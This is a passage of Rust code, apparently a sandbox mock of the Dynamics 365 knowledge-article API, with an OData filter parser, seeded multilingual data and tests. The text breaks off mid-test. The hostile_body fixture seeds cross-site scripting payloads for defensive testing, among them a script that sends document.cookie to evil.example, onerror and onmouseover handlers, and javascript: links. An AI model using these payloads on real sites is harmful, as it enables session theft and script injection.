        (Op::Ne, None) => !matches!(lit, Lit::Null) || !matches!(value, Val::Null),
        (_, None) => false,
        (Op::Eq, Some(o)) => o == Ordering::Equal,
        (Op::Ne, Some(o)) => o != Ordering::Equal,
        (Op::Gt, Some(o)) => o == Ordering::Greater,
        (Op::Ge, Some(o)) => o != Ordering::Less,
        (Op::Lt, Some(o)) => o == Ordering::Less,
        (Op::Le, Some(o)) => o != Ordering::Greater,
    }
}

#[derive(Clone, Debug, PartialEq)]
enum Tok {
    Word(String),
    Quoted(String),
    Open,
    Close,
    Comma,
}

fn tokenize(raw: &str) -> Result<Vec<(usize, Tok)>, usize> {
    let mut out = Vec::new();
    let chars: Vec<(usize, char)> = raw.char_indices().collect();
    let mut i = 0;
    while i < chars.len() {
        let (pos, c) = chars[i];
        match c {
            c if c.is_whitespace() => i += 1,
            '(' => {
                out.push((pos, Tok::Open));
                i += 1;
            }
            ')' => {
                out.push((pos, Tok::Close));
                i += 1;
            }
            ',' => {
                out.push((pos, Tok::Comma));
                i += 1;
            }
            '\'' => {
                let mut text = String::new();
                i += 1;
                loop {
                    match chars.get(i) {
                        None => return Err(pos),
                        Some((_, '\'')) if matches!(chars.get(i + 1), Some((_, '\''))) => {
                            text.push('\'');
                            i += 2;
                        }
                        Some((_, '\'')) => {
                            i += 1;
                            break;
                        }
                        Some((_, c)) => {
                            text.push(*c);
                            i += 1;
                        }
                    }
                }
                out.push((pos, Tok::Quoted(text)));
            }
            _ => {
                let start = i;
                while i < chars.len()
                    && !matches!(chars[i].1, '(' | ')' | ',' | '\'')
                    && !chars[i].1.is_whitespace()
                {
                    i += 1;
                }
                let end = chars.get(i).map_or(raw.len(), |(p, _)| *p);
                out.push((pos, Tok::Word(raw[chars[start].0..end].to_owned())));
            }
        }
    }
    Ok(out)
}

struct FilterParser<'a> {
    raw: &'a str,
    spec: &'a dyn Schema,
    toks: Vec<(usize, Tok)>,
    at: usize,
}

impl FilterParser<'_> {
    fn error(&self) -> Response {
        let pos = self.toks.get(self.at).map_or(self.raw.len(), |(p, _)| *p);
        syntax_error(&format!(
            "Syntax error at position {pos} in '{}'.",
            self.raw
        ))
    }

    fn peek_word(&self) -> Option<&str> {
        match self.toks.get(self.at) {
            Some((_, Tok::Word(w))) => Some(w.as_str()),
            _ => None,
        }
    }

    fn or(&mut self) -> Result<Expr, Response> {
        let mut left = self.and()?;
        while self.peek_word() == Some("or") {
            self.at += 1;
            let right = self.and()?;
            left = Expr::Or(Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn and(&mut self) -> Result<Expr, Response> {
        let mut left = self.unary()?;
        while self.peek_word() == Some("and") {
            self.at += 1;
            let right = self.unary()?;
            left = Expr::And(Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn unary(&mut self) -> Result<Expr, Response> {
        if self.peek_word() == Some("not") {
            self.at += 1;
            return Ok(Expr::Not(Box::new(self.unary()?)));
        }
        self.primary()
    }

    fn expect(&mut self, tok: &Tok) -> Result<(), Response> {
        match self.toks.get(self.at) {
            Some((_, t)) if t == tok => {
                self.at += 1;
                Ok(())
            }
            _ => Err(self.error()),
        }
    }

    fn property(&mut self) -> Result<(String, Kind), Response> {
        let Some(name) = self.peek_word().map(str::to_owned) else {
            return Err(self.error());
        };
        let kind = self
            .spec
            .kind(&name)
            .ok_or_else(|| unknown_property(&name, self.spec.type_name()))?;
        self.at += 1;
        Ok((name, kind))
    }

    fn primary(&mut self) -> Result<Expr, Response> {
        if matches!(self.toks.get(self.at), Some((_, Tok::Open))) {
            self.at += 1;
            let inner = self.or()?;
            self.expect(&Tok::Close)?;
            return Ok(inner);
        }
        let function = match self.peek_word() {
            Some("contains") => Some(TextFn::Contains),
            Some("startswith") => Some(TextFn::StartsWith),
            Some("endswith") => Some(TextFn::EndsWith),
            _ => None,
        };
        if let Some(function) = function
            && matches!(self.toks.get(self.at + 1), Some((_, Tok::Open)))
        {
            self.at += 2;
            let (prop, kind) = self.property()?;
            self.expect(&Tok::Comma)?;
            let needle = match self.toks.get(self.at) {
                Some((_, Tok::Quoted(s))) => s.clone(),
                _ => return Err(self.error()),
            };
            self.at += 1;
            self.expect(&Tok::Close)?;
            if kind != Kind::Text {
                return Err(web_api_error(
                    StatusCode::BAD_REQUEST,
                    "0x0",
                    &format!(
                        "No function signature for the function with name '{}' matches the specified arguments. The function signatures considered are: {}(Edm.String Nullable=true, Edm.String Nullable=true).",
                        fn_name(function),
                        fn_name(function)
                    ),
                ));
            }
            return Ok(Expr::Text(function, prop, needle));
        }
        if let Some(word) = self.peek_word()
            && matches!(self.toks.get(self.at + 1), Some((_, Tok::Open)))
        {
            return Err(syntax_error(&format!(
                "An unknown function with name '{word}' was found."
            )));
        }
        let (prop, kind) = self.property()?;
        let op = self
            .peek_word()
            .and_then(Op::parse)
            .ok_or_else(|| self.error())?;
        self.at += 1;
        let lit = match self.toks.get(self.at) {
            Some((_, Tok::Quoted(s))) => Lit::Text(s.clone()),
            Some((_, Tok::Word(w))) => literal(w).ok_or_else(|| self.error())?,
            _ => return Err(self.error()),
        };
        self.at += 1;
        if !lit.fits(kind) {
            return Err(web_api_error(
                StatusCode::BAD_REQUEST,
                "0x0",
                &format!(
                    "A binary operator with incompatible types was detected. Found operand types '{}' and '{}' for operator kind '{}'.",
                    kind.edm(),
                    lit.edm(),
                    op.kind_name()
                ),
            ));
        }
        Ok(Expr::Cmp(prop, op, lit))
    }
}

fn fn_name(f: TextFn) -> &'static str {
    match f {
        TextFn::Contains => "contains",
        TextFn::StartsWith => "startswith",
        TextFn::EndsWith => "endswith",
    }
}

/// An unquoted literal: `null`, `true`/`false`, an integer, a date(-time), a GUID.
fn literal(word: &str) -> Option<Lit> {
    match word {
        "null" => return Some(Lit::Null),
        "true" => return Some(Lit::Bool(true)),
        "false" => return Some(Lit::Bool(false)),
        _ => {}
    }
    if is_guid(word) {
        return Some(Lit::Guid(word.to_ascii_lowercase()));
    }
    if let Ok(n) = word.parse::<i64>() {
        return Some(Lit::Int(n));
    }
    if let Some(ms) = clock::parse_datetime(word) {
        return Some(Lit::Date(ms));
    }
    clock::parse_date(word).map(|days| Lit::Date(days * clock::DAY_MS))
}

pub(crate) fn parse_filter(raw: &str, spec: &dyn Schema) -> Result<Expr, Response> {
    let toks = tokenize(raw)
        .map_err(|pos| syntax_error(&format!("Syntax error at position {pos} in '{raw}'.")))?;
    let mut parser = FilterParser {
        raw,
        spec,
        toks,
        at: 0,
    };
    let expr = parser.or()?;
    if parser.at < parser.toks.len() {
        return Err(parser.error());
    }
    Ok(expr)
}

pub(crate) fn is_guid(raw: &str) -> bool {
    let parts: Vec<&str> = raw.split('-').collect();
    parts.len() == 5
        && parts
            .iter()
            .zip([8, 4, 4, 4, 12])
            .all(|(p, n)| p.len() == n && p.bytes().all(|b| b.is_ascii_hexdigit()))
}

// ---------------------------------------------------------------------------------------
// Formatting and seeding
// ---------------------------------------------------------------------------------------

/// Epoch seconds as the Web API prints them: `2024-01-15T09:00:00Z`.
pub(crate) fn iso(secs: i64) -> String {
    let days = secs.div_euclid(86_400);
    let rem = secs.rem_euclid(86_400);
    let (y, m, d) = clock::civil_from_days(days);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}Z",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

/// SplitMix64.
pub(crate) fn mix(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// A deterministic version-4-shaped GUID.
pub(crate) fn guid(salt: u64, n: u64) -> String {
    let a = mix(salt ^ n.wrapping_mul(0x2545_F491_4F6C_DD1D));
    let b = mix(a ^ n);
    format!(
        "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
        a >> 32,
        (a >> 16) & 0xffff,
        a & 0x0fff,
        0x8000 | ((b >> 48) & 0x3fff),
        b & 0xffff_ffff_ffff
    )
}

const KNOWN_LANGUAGES: [(&str, i64, &str, &str); 14] = [
    ("en-US", 1033, "English", "United States"),
    ("fr-FR", 1036, "French", "France"),
    ("de-DE", 1031, "German", "Germany"),
    ("es-ES", 3082, "Spanish", "Spain"),
    ("it-IT", 1040, "Italian", "Italy"),
    ("nl-NL", 1043, "Dutch", "Netherlands"),
    ("pt-BR", 1046, "Portuguese", "Brazil"),
    ("ja-JP", 1041, "Japanese", "Japan"),
    ("sv-SE", 1053, "Swedish", "Sweden"),
    ("da-DK", 1030, "Danish", "Denmark"),
    ("fi-FI", 1035, "Finnish", "Finland"),
    ("nb-NO", 1044, "Norwegian (Bokmål)", "Norway"),
    ("pl-PL", 1045, "Polish", "Poland"),
    ("zh-CN", 2052, "Chinese (Simplified)", "China"),
];

/// Every known language, those in `enabled` active.
fn language_table(enabled: &[String]) -> Vec<DynKbLanguage> {
    KNOWN_LANGUAGES
        .iter()
        .map(|(code, lcid, language, region)| DynKbLanguage {
            id: guid(0x1A46_0000, lcid.unsigned_abs()),
            code: (*code).to_owned(),
            locale_id: *lcid,
            language: (*language).to_owned(),
            region: (*region).to_owned(),
            name: format!("{language} ({region})"),
            active: enabled.iter().any(|e| e.eq_ignore_ascii_case(code)),
        })
        .collect()
}

const SENTENCES: [[&str; 6]; 3] = [
    [
        "This article explains what changes when you turn the feature on.",
        "Only administrators can change these settings.",
        "Changes take effect immediately for every member of your team.",
        "The export runs in the background and you receive an email when it is ready.",
        "You can undo the change at any time from the same page.",
        "Contact support if the option is greyed out on your plan.",
    ],
    [
        "Cet article explique ce qui change lorsque vous activez la fonctionnalité.",
        "Seuls les administrateurs peuvent modifier ces paramètres.",
        "Les modifications s'appliquent immédiatement à toute votre équipe.",
        "L'export s'exécute en arrière-plan et vous recevez un e-mail.",
        "Vous pouvez annuler la modification à tout moment.",
        "Contactez le support si l'option est grisée dans votre offre.",
    ],
    [
        "Dieser Artikel erklärt, was sich ändert, wenn Sie die Funktion aktivieren.",
        "Nur Administratoren können diese Einstellungen ändern.",
        "Änderungen gelten sofort für alle Mitglieder Ihres Teams.",
        "Der Export läuft im Hintergrund; Sie erhalten eine E-Mail.",
        "Sie können die Änderung jederzeit rückgängig machen.",
        "Wenden Sie sich an den Support, wenn die Option ausgegraut ist.",
    ],
];

const SUBJECTS: [[&str; 3]; 8] = [
    [
        "Resetting your password",
        "Réinitialiser votre mot de passe",
        "Passwort zurücksetzen",
    ],
    [
        "Exporting invoices",
        "Exporter les factures",
        "Rechnungen exportieren",
    ],
    [
        "Configuring single sign-on",
        "Configurer l'authentification unique",
        "Single Sign-On einrichten",
    ],
    [
        "Managing user roles",
        "Gérer les rôles",
        "Benutzerrollen verwalten",
    ],
    [
        "Setting up webhooks",
        "Configurer les webhooks",
        "Webhooks einrichten",
    ],
    [
        "Using the mobile app",
        "Utiliser l'application mobile",
        "Die mobile App verwenden",
    ],
    [
        "Scheduling reports",
        "Planifier des rapports",
        "Berichte planen",
    ],
    [
        "Importing contacts",
        "Importer des contacts",
        "Kontakte importieren",
    ],
];

fn lang_index(code: &str) -> usize {
    match code.split('-').next() {
        Some("fr") => 1,
        Some("de") => 2,
        _ => 0,
    }
}

fn title_for(i: usize, code: &str) -> String {
    let l = lang_index(code);
    let base = SUBJECTS[i % SUBJECTS.len()][l];
    let round = i / SUBJECTS.len();
    let mut title = if round == 0 {
        base.to_owned()
    } else {
        format!("{base} ({})", round + 1)
    };
    if l == 0 && !code.starts_with("en") {
        let _ = write!(title, " [{code}]");
    }
    title
}

fn body_for(i: usize, code: &str, seed: u64, version: i64) -> String {
    let l = lang_index(code);
    let mut body = String::with_capacity(3_000);
    let _ = write!(body, "<h2>{}</h2>", title_for(i, code));
    for p in 0..4u64 {
        body.push_str("<p>");
        for s in 0..5u64 {
            let pick = mix(seed ^ ((i as u64) << 8) ^ (p << 4) ^ s) % 6;
            body.push_str(SENTENCES[l][usize::try_from(pick).unwrap_or(0)]);
            body.push(' ');
        }
        body.push_str("</p>");
    }
    body.push_str("<ol>");
    for step in 1..=4 {
        let _ = write!(body, "<li>Step {step}: {}</li>", SENTENCES[l][step % 6]);
    }
    let _ = write!(
        body,
        "</ol><p><a href=\"https://support.example.com/kb/{i}\">More</a> (v{version})</p>"
    );
    body
}

fn large_body(i: usize, code: &str, seed: u64) -> String {
    let mut body = body_for(i, code, seed, 1);
    let mut part = 0u64;
    while body.len() <= LARGE_BODY_BYTES {
        part += 1;
        let _ = write!(body, "<h3>Appendix {part}</h3><p>");
        for k in 0..8u64 {
            body.push_str(SENTENCES[0][usize::try_from((part + k) % 6).unwrap_or(0)]);
            body.push(' ');
        }
        body.push_str("</p>");
    }
    body
}

fn hostile_body(i: usize, code: &str, seed: u64) -> String {
    concat!(
        "<p>If sign-in fails, clear your cookies first.</p>",
        "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>",
        "<p><img src=\"https://support.example.com/img/1.png\" onerror=\"alert(document.domain)\"></p>",
        "<p><a href=\"javascript:alert('xss')\">Open the assistant</a> or ",
        "<a href=\" JaVaScRiPt:void(0)\">reset your session</a>.</p>",
        "<iframe src=\"https://evil.example/frame\"></iframe>",
        "<p onmouseover=\"alert(1)\">Hover here for tips.</p>",
    )
    .to_owned()
        + &body_for(i, code, seed, 1)
}

/// Builds a seeded environment and its summary.
fn build_env(env: &str, seed: &DynKbSeed) -> (KbEnv, DynKbSummary) {
    let mut codes: Vec<String> = Vec::new();
    for raw in &seed.languages {
        if let Some((code, ..)) = KNOWN_LANGUAGES
            .iter()
            .find(|(c, ..)| c.eq_ignore_ascii_case(raw.trim()))
            && !codes.iter().any(|c| c == code)
        {
            codes.push((*code).to_owned());
        }
    }
    if codes.is_empty() {
        codes.push("en-US".to_owned());
    }
    let salt = mix(seed.seed ^ fnv(&[env]));
    let mut kb = KbEnv {
        languages: language_table(&codes),
        ..KbEnv::empty(salt)
    };
    let lang_id = |code: &str| {
        kb.languages
            .iter()
            .find(|l| l.code == code)
            .map(|l| l.id.clone())
    };
    let lang_ids: Vec<(String, Option<String>)> =
        codes.iter().map(|c| (c.clone(), lang_id(c))).collect();
    let mut summary = DynKbSummary {
        languages: lang_ids
            .iter()
            .filter_map(|(c, id)| id.clone().map(|id| (c.clone(), id)))
            .collect(),
        ..DynKbSummary::default()
    };
    let every = |n: usize, i: usize| n > 0 && (i + 1).is_multiple_of(n);
    let hostile_index = match (seed.hostile_article, seed.large_article) {
        (false, _) => None,
        (true, true) if seed.articles > 1 => Some(1),
        (true, _) => Some(0),
    };
    let mut n = 0u64;
    let mut next_guid = || {
        n += 1;
        guid(salt, n)
    };
    let mut row_version = 1_000_000i64;
    for i in 0..seed.articles {
        let special = (seed.large_article && i == 0) || hostile_index == Some(i);
        let draft = !special && every(seed.draft_every, i);
        let revised = !draft && every(seed.revised_every, i);
        let translated = !draft && every(seed.translated_every, i) && codes.len() > 1;
        let x = mix(seed.seed ^ (i as u64).wrapping_mul(7919));
        let created = SEED_EPOCH + (i as i64) * 1_800 + (x % 900) as i64;
        // Changes land over a window after every creation, in an order unrelated to ids.
        let modified = SEED_EPOCH
            + (seed.articles as i64) * 1_800
            + 3_600
            + (mix(x) % (seed.articles as u64 * 30 + 60)) as i64;
        let public_number = format!("KA-{:05}", 1_000 + i);
        let primary = &codes[0];
        let primary_lang = lang_ids[0].1.clone();
        let root_id = next_guid();
        row_version += 1;
        let root = DynKbArticle {
            id: root_id.clone(),
            title: title_for(i, primary),
            content: None,
            description: None,
            keywords: None,
            article_public_number: public_number.clone(),
            state_code: 0,
            status_code: 2,
            is_root_article: true,
            is_latest_version: false,
            is_primary: false,
            is_internal: false,
            major_version: 1,
            minor_version: 0,
            language_locale_id: primary_lang.clone(),
            parent_article_content_id: None,
            root_article_id: None,
            previous_article_content_id: None,
            created_on: created,
            modified_on: created,
            publish_on: None,
            views: 0,
            version_number: row_version,
        };
        summary.root_ids.push(root_id.clone());
        kb.articles.insert(root_id.clone(), root.clone());

        let content = if seed.large_article && i == 0 {
            large_body(i, primary, seed.seed)
        } else if hostile_index == Some(i) {
            hostile_body(i, primary, seed.seed)
        } else {
            body_for(i, primary, seed.seed, 1)
        };
        let mut record = DynKbArticle {
            id: String::new(),
            content: Some(content),
            description: Some(format!("How to: {}", title_for(i, primary).to_lowercase())),
            keywords: Some(["billing", "account", "security", "api", "mobile"][i % 5].to_owned()),
            is_root_article: false,
            is_latest_version: true,
            is_primary: true,
            is_internal: i % 17 == 16,
            parent_article_content_id: Some(root_id.clone()),
            root_article_id: Some(root_id.clone()),
            views: (x % 5_000) as i64,
            ..root
        };
        let mut previous = None;
        if revised {
            row_version += 1;
            let id = next_guid();
            let old = DynKbArticle {
                id: id.clone(),
                state_code: 5,
                status_code: 12,
                is_latest_version: false,
                content: Some(body_for(i, primary, seed.seed ^ 1, 0)),
                publish_on: Some(created + 600),
                modified_on: modified - 1,
                version_number: row_version,
                ..record.clone()
            };
            summary.archived_ids.push(id.clone());
            kb.articles.insert(id.clone(), old);
            previous = Some(id);
            record.minor_version = 1;
        }
        row_version += 1;
        let id = next_guid();
        record.id.clone_from(&id);
        record.previous_article_content_id = previous;
        record.modified_on = modified;
        record.version_number = row_version;
        if draft {
            record.state_code = 0;
            record.status_code = 2;
            summary.draft_ids.push(id.clone());
        } else {
            record.state_code = 3;
            record.status_code = 7;
            record.publish_on = Some(modified);
            summary.published_ids.push(id.clone());
        }
        if seed.large_article && i == 0 {
            summary.large_article_id = Some(id.clone());
        }
        if hostile_index == Some(i) {
            summary.hostile_article_id = Some(id.clone());
        }
        kb.articles.insert(id.clone(), record.clone());
        if translated {
            for (code, lang) in lang_ids.iter().skip(1) {
                row_version += 1;
                let tid = next_guid();
                let translation = DynKbArticle {
                    id: tid.clone(),
                    title: title_for(i, code),
                    content: Some(body_for(i, code, seed.seed, 1)),
                    description: Some(title_for(i, code)),
                    is_primary: false,
                    language_locale_id: lang.clone(),
                    parent_article_content_id: Some(id.clone()),
                    previous_article_content_id: None,
                    version_number: row_version,
                    ..record.clone()
                };
                summary.published_ids.push(tid.clone());
                summary.translation_ids.push(tid.clone());
                kb.articles.insert(tid, translation);
            }
        }
    }
    kb.next_id = n;
    kb.next_row_version = row_version;
    summary.records = kb.articles.len();
    let live = kb.articles.values().filter(|a| !a.is_root_article);
    summary.oldest_modified_on = live.clone().map(|a| a.modified_on).min();
    summary.newest_modified_on = live.map(|a| a.modified_on).max();
    (kb, summary)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use axum::body::Bytes;
    use axum::http::HeaderMap;
    use axum::http::header::{AUTHORIZATION, RETRY_AFTER, WWW_AUTHENTICATE};

    use super::*;

    const ENV: &str = "acme.crm.dynamics.com";

    fn token(state: &SandboxState, scope: &str) -> String {
        let grant = state
            .seed_grant(
                OAuthProvider::Dynamics365,
                "dynamics365-sandbox-client-id",
                None,
                &[scope],
            )
            .unwrap();
        format!("Bearer {}", grant.access_token)
    }

    fn env_token(state: &SandboxState) -> String {
        token(state, "https://acme.crm.dynamics.com/user_impersonation")
    }

    async fn call(
        state: &SandboxState,
        path_and_query: &str,
        auth: Option<&str>,
        prefer: Option<&str>,
    ) -> (StatusCode, HeaderMap, String) {
        let (path, query) = match path_and_query.split_once('?') {
            Some((p, q)) => (p.to_owned(), Some(q.to_owned())),
            None => (path_and_query.to_owned(), None),
        };
        let mut headers = HeaderMap::new();
        if let Some(auth) = auth {
            headers.insert(AUTHORIZATION, HeaderValue::from_str(auth).unwrap());
        }
        if let Some(prefer) = prefer {
            headers.insert("prefer", HeaderValue::from_str(prefer).unwrap());
        }
        let req = ProviderRequest {
            method: Method::GET,
            host: ENV.to_owned(),
            path,
            query,
            headers,
            body: Bytes::new(),
        };
        let response = crate::providers::dispatch(state, req).await;
        let status = response.status();
        let headers = response.headers().clone();
        let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
            .await
            .unwrap();
        (status, headers, String::from_utf8(bytes.to_vec()).unwrap())
    }

    async fn get(
        state: &SandboxState,
        auth: &str,
        url: &str,
        prefer: Option<&str>,
    ) -> (StatusCode, HeaderMap, Value) {
        let (status, headers, body) = call(state, url, Some(auth), prefer).await;
        let value = if body.is_empty() {
            Value::Null
        } else {
            serde_json::from_str(&body).unwrap()
        };
        (status, headers, value)
    }

    fn strip(link: &str) -> String {
        link.strip_prefix(&format!("https://{ENV}"))
            .unwrap()
            .to_owned()
    }

    #[tokio::test]
    async fn needs_a_token_for_this_environment() {
        let state = SandboxState::new();
        state.seed_dynamics_kb(
            "acme",
            DynKbSeed {
                articles: 5,
                ..DynKbSeed::default()
            },
        );
        let url = "/api/data/v9.2/knowledgearticles";
        let (status, headers, body) = call(&state, url, None, None).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
        assert!(body.is_empty());
        assert!(
            headers[WWW_AUTHENTICATE]
                .to_str()
                .unwrap()
                .contains("resource_id=https://acme.crm.dynamics.com/")
        );
        let other = token(&state, "https://other.crm.dynamics.com/user_impersonation");
        assert_eq!(
            call(&state, url, Some(&other), None).await.0,
            StatusCode::UNAUTHORIZED
        );
        let (status, headers, _) = call(&state, url, Some(&env_token(&state)), None).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(headers["odata-version"], "4.0");
        assert_eq!(
            headers["x-ms-ratelimit-burst-remaining-xrm-requests"],
            "5999"
        );
        assert_eq!(state.calls(KB_ARTICLES), 3);
    }

    #[tokio::test]
    async fn published_articles_page_by_modifiedon_with_next_links() {
        let state = SandboxState::new();
        let summary = state.seed_dynamics_kb(
            "acme",
            DynKbSeed {
                articles: 120,
                ..DynKbSeed::default()
            },
        );
        let auth = env_token(&state);
        let mut url = "/api/data/v9.2/knowledgearticles?$select=title,modifiedon,_languagelocaleid_value&$filter=statecode eq 3 and isrootarticle eq false&$orderby=modifiedon asc,knowledgearticleid asc&$expand=languagelocaleid($select=code)".replace(' ', "%20");
        let mut seen = Vec::new();
        let mut last: Option<(String, String)> = None;
        let mut pages = 0;
        loop {
            let (status, headers, body) =
                get(&state, &auth, &url, Some("odata.maxpagesize=50")).await;
            assert_eq!(status, StatusCode::OK, "{body}");
            assert_eq!(headers["preference-applied"], "odata.maxpagesize=50");
            pages += 1;
            for row in body["value"].as_array().unwrap() {
                let key = (
                    row["modifiedon"].as_str().unwrap().to_owned(),
                    row["knowledgearticleid"].as_str().unwrap().to_owned(),
                );
                if let Some(prev) = &last {
                    assert!(*prev < key, "{prev:?} !< {key:?}");
                }
                last = Some(key);
                assert!(row.get("content").is_none());
                assert!(
                    row["languagelocaleid"]["code"]
                        .as_str()
                        .unwrap()
                        .contains('-')
                );
                seen.push(row["knowledgearticleid"].as_str().unwrap().to_owned());
            }
            match body["@odata.nextLink"].as_str() {
                Some(next) => {
                    assert!(next.contains("$skiptoken="));
                    url = strip(next);
                }
                None => break,
            }
        }
        let expected: BTreeSet<String> = summary.published_ids.iter().cloned().collect();
        let got: BTreeSet<String> = seen.iter().cloned().collect();
        assert_eq!(got.len(), seen.len());
        assert_eq!(got, expected);
        assert!(pages >= 3);
        assert!(
            !summary.translation_ids.is_empty()
                && !summary.archived_ids.is_empty()
                && !summary.draft_ids.is_empty()
        );
    }

    #[tokio::test]
    async fn skiptokens_are_stable_under_changes_and_bound_to_their_query() {
        let state = SandboxState::new();
        let summary = state.seed_dynamics_kb(
            "acme",
            DynKbSeed {
                articles: 30,
                translated_every: 0,
                revised_every: 0,
                draft_every: 0,
                ..DynKbSeed::default()
            },
        );
        let auth = env_token(&state);
        let base = "/api/data/v9.2/knowledgearticles?$select=title&$filter=statecode%20eq%203";
        let (_, _, first) = get(&state, &auth, base, Some("odata.maxpagesize=10")).await;
        let next = strip(first["@odata.nextLink"].as_str().unwrap());
        // Deleting a row already read moves no later row back onto a read page.
        let read: Vec<String> = first["value"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["knowledgearticleid"].as_str().unwrap().to_owned())
            .collect();
        assert_eq!(state.dyn_kb_delete("acme", &read[0]), 1);
        let (_, _, second) = get(&state, &auth, &next, Some("odata.maxpagesize=10")).await;
        let later: Vec<String> = second["value"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["knowledgearticleid"].as_str().unwrap().to_owned())
            .collect();
        assert_eq!(later.len(), 10);
        assert!(later.iter().all(|id| !read.contains(id)));
        assert!(later.iter().all(|id| summary.published_ids.contains(id)));
        // The same token under another filter is refused.
        let foreign = next.replace("statecode%20eq%203", "statecode%20eq%205");
        let (status, _, body) = get(&state, &auth, &foreign, None).await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert_eq!(body["error"]["code"], SYNTAX_CODE);
        let (status, _, _) = get(&state, &auth, &format!("{base}&$skiptoken=garbage"), None).await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
    }

    #[tokio::test]
    async fn query_errors_have_dataverse_bodies() {
        let state = SandboxState::new();
        state.seed_dynamics_kb(
            "acme",
            DynKbSeed {
                articles: 5,
                ..DynKbSeed::default()
            },
        );
        let auth = env_token(&state);
        let cases = [
            (
                "$select=Title",
                "0x0",
                "Could not find a property named 'Title' on type 'Microsoft.Dynamics.CRM.knowledgearticle'.",
            ),
            (
                "$filter=bogus%20eq%201",
                "0x0",
                "Could not find a property named 'bogus' on type 'Microsoft.Dynamics.CRM.knowledgearticle'.",
            ),
            (
                "$filter=statecode%20eq%20'3'",
                "0x0",
                "A binary operator with incompatible types was detected. Found operand types 'Edm.Int32' and 'Edm.String' for operator kind 'Equal'.",
            ),
            (
                "$skip=10",
                SYNTAX_CODE,
                "The query parameter '$skip' is not supported.",
            ),
            (
                "$orderby=nothing%20asc",
                "0x0",
                "Could not find a property named 'nothing' on type 'Microsoft.Dynamics.CRM.knowledgearticle'.",
            ),
        ];
        for (query, code, message) in cases {
            let (status, _, body) = get(
                &state,
                &auth,
                &format!("/api/data/v9.2/knowledgearticles?{query}"),
                None,
            )
            .await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{query}");
            assert_eq!(
                body,
                json!({"error": {"code": code, "message": message}}),
                "{query}"
            );
        }
        for query in [
            "$filter=statecode%20eq",
            "$filter=(statecode%20eq%203",
            "$top=-1",
            "$top=5&$count=true",
            "$expand=ownerid",
            "$filter=_languagelocaleid_value%20eq%20'abc'",
        ] {
            let (status, _, body) = get(
                &state,
                &auth,
                &format!("/api/data/v9.2/knowledgearticles?{query}"),
                None,
            )
            .await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{query}: {body}");
            assert!(body["error"]["code"].as_str().unwrap().starts_with("0x"));
        }
        let (status, _, body) = get(
            &state,
            &auth,
            "/api/data/v9.2/knowledgearticles(00000000-0000-4000-8000-000000000000)",
            None,
        )
        .await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        assert_eq!(body["error"]["code"], "0x80040217");
        let (status, _, _) = get(
            &state,
            &auth,
            "/api/data/v9.2/knowledgearticles(nope)",
            None,
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
    }

    #[tokio::test]
    async fn filters_top_count_show_and_languages() {
        let state = SandboxState::new();
        let summary = state.seed_dynamics_kb(
            "acme",
            DynKbSeed {
                articles: 40,
                large_article: true,
                hostile_article: true,
                ..DynKbSeed::default()
            },
        );
        let auth = env_token(&state);
        let fr = summary.languages["fr-FR"].clone();
        let url = format!(
            "/api/data/v9.2/knowledgearticles?$select=title&$filter=statecode%20eq%203%20and%20_languagelocaleid_value%20eq%20{fr}&$count=true"
        );
        let (_, _, body) = get(&state, &auth, &url, None).await;
        let french = state
            .dyn_kb_articles("acme")
            .into_iter()
            .filter(|a| a.state_code == 3 && a.language_locale_id.as_deref() == Some(fr.as_str()))
            .count();
        assert!(french > 0);
        assert_eq!(body["@odata.count"], french);
        assert_eq!(body["value"].as_array().unwrap().len(), french);

        let since = iso(summary.newest_modified_on.unwrap() - 100);
        let url = format!(
            "/api/data/v9.2/knowledgearticles?$select=modifiedon&$filter=modifiedon%20gt%20{since}%20or%20statecode%20eq%205"
        );
        let (status, _, body) = get(&state, &auth, &url, None).await;
        assert_eq!(status, StatusCode::OK, "{body}");
        for row in body["value"].as_array().unwrap() {
            let id = row["knowledgearticleid"].as_str().unwrap();
            let a = state.dyn_kb_article("acme", id).unwrap();
            assert!(row["modifiedon"].as_str().unwrap() > since.as_str() || a.state_code == 5);
        }
        let (_, headers, body) = get(
            &state,
            &auth,
            "/api/data/v9.2/knowledgearticles?$top=3&$select=title",
            Some("odata.maxpagesize=2"),
        )
        .await;
        assert_eq!(body["value"].as_array().unwrap().len(), 3);
        assert!(body.get("@odata.nextLink").is_none());
        assert!(headers.get("preference-applied").is_none());

        let large = summary.large_article_id.clone().unwrap();
        let (status, _, body) = get(&state, &auth, &format!("/api/data/v9.2/knowledgearticles({large})?$select=content,statecode&$expand=languagelocaleid($select=code)"), Some("odata.include-annotations=\"*\"")).await;
        assert_eq!(status, StatusCode::OK);
        assert!(body["content"].as_str().unwrap().len() > DYNAMODB_ITEM_LIMIT);
        assert_eq!(
            body["statecode@OData.Community.Display.V1.FormattedValue"],
            "Published"
        );
        assert_eq!(body["languagelocaleid"]["code"], "en-US");
        assert!(
            body["@odata.context"]
                .as_str()
                .unwrap()
                .ends_with("$entity")
        );
        let hostile = state
            .dyn_kb_article("acme", summary.hostile_article_id.as_ref().unwrap())
            .unwrap();
        assert!(hostile.content.unwrap().contains("<script>"));

        let (_, _, body) = get(
            &state,
            &auth,
            "/api/data/v9.2/languagelocale?$select=code&$filter=statecode%20eq%200",
            None,
        )
        .await;
        let codes: Vec<&str> = body["value"]
            .as_array()
            .unwrap()
            .iter()
